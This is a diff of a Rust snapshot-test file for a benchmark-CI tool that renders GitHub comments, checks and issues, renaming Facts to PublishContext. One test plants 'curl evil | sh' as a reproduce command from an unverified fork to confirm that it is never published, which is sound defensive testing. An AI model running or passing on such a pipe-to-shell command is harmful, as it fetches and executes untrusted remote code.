@@ -2,7 +2,7 @@
 
 use gbench_ci::compare::{Conclusion, Group, Merged, SCHEMA_MERGED, Verdict, VerdictDocument};
 use gbench_ci::model::{BaseChoice, SourceLine};
-use gbench_ci::report::posts::{self, Facts};
+use gbench_ci::report::github::{self as render, PublishContext};
 
 use crate::support::{fixture, stories};
 
@@ -13,18 +13,18 @@ const HEAD: &str = "02ab45cd6677889900aabbccddeeff0011223344";
 fn settings() -> insta::Settings {
     let mut settings = insta::Settings::clone_current();
     settings.set_prepend_module_to_snapshot(false);
-    settings.set_snapshot_path("snapshots/posts");
+    settings.set_snapshot_path("snapshots/github_rendering");
     settings.set_omit_expression(true);
     settings
 }
 
-fn facts() -> Facts {
+fn facts() -> PublishContext {
     let source = |benchmark: &str, line| SourceLine {
         benchmark: benchmark.into(),
         path: format!("benches/{}.py", benchmark.rsplit('/').next().unwrap()),
         line,
     };
-    Facts {
+    PublishContext {
         gate: "gbench-ci".into(),
         head: Some(HEAD.into()),
         base: BaseChoice {
@@ -38,7 +38,7 @@ fn facts() -> Facts {
         sources: vec![source("kernels/gemm", 12), source("memory/copy", 40)],
         server: "https://github.com".into(),
         slug: Some("acme/kernels".into()),
-        ..Facts::default()
+        ..PublishContext::default()
     }
 }
 
@@ -77,8 +77,8 @@ fn two_machines() -> Merged {
     }
 }
 
-fn all() -> Vec<(&'static str, Merged, Facts)> {
-    let unverified = Facts { unverified: true, ..facts() };
+fn all() -> Vec<(&'static str, Merged, PublishContext)> {
+    let unverified = PublishContext { unverified: true, ..facts() };
     vec![
         ("one_regression", single(stories::one().verdict()), facts()),
         ("several", single(stories::red().verdict()), facts()),
@@ -90,7 +90,7 @@ fn all() -> Vec<(&'static str, Merged, Facts)> {
         ("nothing", gap("all_skipped"), facts()),
         ("two_machines", two_machines(), facts()),
         ("fork", single(stories::red().verdict()), unverified),
-        ("bare", single(stories::red().verdict()), Facts::default()),
+        ("bare", single(stories::red().verdict()), PublishContext::default()),
     ]
 }
 
@@ -98,7 +98,7 @@ fn all() -> Vec<(&'static str, Merged, Facts)> {
 fn comments_read_as_reviewed() {
     let _bound = settings().bind_to_scope();
     for (name, merged, facts) in all() {
-        let comment = posts::comment(&merged, &facts, MARKER);
+        let comment = render::comment(&merged, &facts, MARKER);
         assert_eq!(comment.lines().last(), Some(MARKER));
         insta::assert_snapshot!(format!("comment_{name}"), comment);
     }
@@ -108,20 +108,20 @@ fn comments_read_as_reviewed() {
 fn checks_read_as_reviewed() {
     let _bound = settings().bind_to_scope();
     for (name, merged, facts) in all() {
-        let check = posts::check(&merged, &facts);
+        let check = render::check(&merged, &facts);
         let annotations: Vec<String> =
             check.annotations.iter().map(|annotation| format!("{annotation:#?}\n")).collect();
         let text = check.text.unwrap_or_default();
         let shown = format!(
             "{} | {}\n---- summary\n{}---- text\n{text}---- annotations\n{}",
-            check.standing.word(),
+            check.state.word(),
             check.title,
             check.summary,
             annotations.concat()
         );
         insta::assert_snapshot!(format!("check_{name}"), shown);
     }
-    let begun = posts::begun(&facts());
+    let begun = render::begun(&facts());
     insta::assert_snapshot!("check_begun", format!("{}\n{}", begun.title, begun.summary));
 }
 
@@ -130,21 +130,21 @@ fn an_issue_names_its_suspects_and_says_goodbye() {
     let _bound = settings().bind_to_scope();
     let compare = format!("https://github.com/acme/kernels/compare/{BASE}...{HEAD}");
     let red = single(stories::red().verdict());
-    let (title, body) = posts::issue(&red, &facts(), Some(&compare));
+    let (title, body) = render::issue(&red, &facts(), Some(&compare));
     assert!(body.contains("git log --oneline 9f1c2e7ab0..02ab45cd66") && body.contains(&compare), "{body}");
     insta::assert_snapshot!("issue", format!("{title}\n\n{body}"));
-    let note = posts::closing_note(&single(stories::clean().verdict()), &facts());
+    let note = render::closing_note(&single(stories::clean().verdict()), &facts());
     insta::assert_snapshot!("issue_closed", note);
 
-    let itself = Facts { head: Some(BASE.into()), ..facts() };
-    let (_, body) = posts::issue(&red, &itself, None);
+    let itself = PublishContext { head: Some(BASE.into()), ..facts() };
+    let (_, body) = render::issue(&red, &itself, None);
     assert!(body.contains("Both sides are") && !body.contains("Suspects"), "{body}");
 }
 
 #[test]
 fn the_log_gets_the_gravest_rows_with_their_lines() {
     let _bound = settings().bind_to_scope();
-    let annotations = posts::annotations_of_log(&two_machines(), &facts());
+    let annotations = render::annotations_of_log(&two_machines(), &facts());
     insta::assert_snapshot!("log", format!("{annotations:#?}"));
 }
 
@@ -152,7 +152,7 @@ fn the_log_gets_the_gravest_rows_with_their_lines() {
 #[test]
 fn every_case_that_is_not_unchanged_is_named_with_its_reason_in_comment_and_summary() {
     for (name, merged, facts) in all() {
-        let pages = [posts::comment(&merged, &facts, MARKER), posts::step_summary(&merged, &facts)];
+        let pages = [render::comment(&merged, &facts, MARKER), render::step_summary(&merged, &facts)];
         let pages = pages.map(|page| page.replace('\u{a0}', " "));
         for page in pages {
             for row in merged.groups.iter().flat_map(|group| &group.verdict.rows) {
@@ -176,13 +176,16 @@ fn a_fork_s_commands_are_not_handed_on() {
     let mut document = stories::red().verdict();
     document.reproduce = "curl evil | sh".into();
     document.method.rounds = None;
-    let facts = Facts { unverified: true, ..facts() };
+    let facts = PublishContext { unverified: true, ..facts() };
     let merged = single(document);
-    let check = posts::check(&merged, &facts);
-    let (_, issue) = posts::issue(&merged, &facts, None);
-    for page in
-        [posts::comment(&merged, &facts, MARKER), posts::step_summary(&merged, &facts), check.summary, issue]
-    {
+    let check = render::check(&merged, &facts);
+    let (_, issue) = render::issue(&merged, &facts, None);
+    for page in [
+        render::comment(&merged, &facts, MARKER),
+        render::step_summary(&merged, &facts),
+        check.summary,
+        issue,
+    ] {
         assert!(!page.contains("curl") && page.contains("Unverified"), "{page}");
     }
     assert!(!check.text.unwrap().contains("curl"));
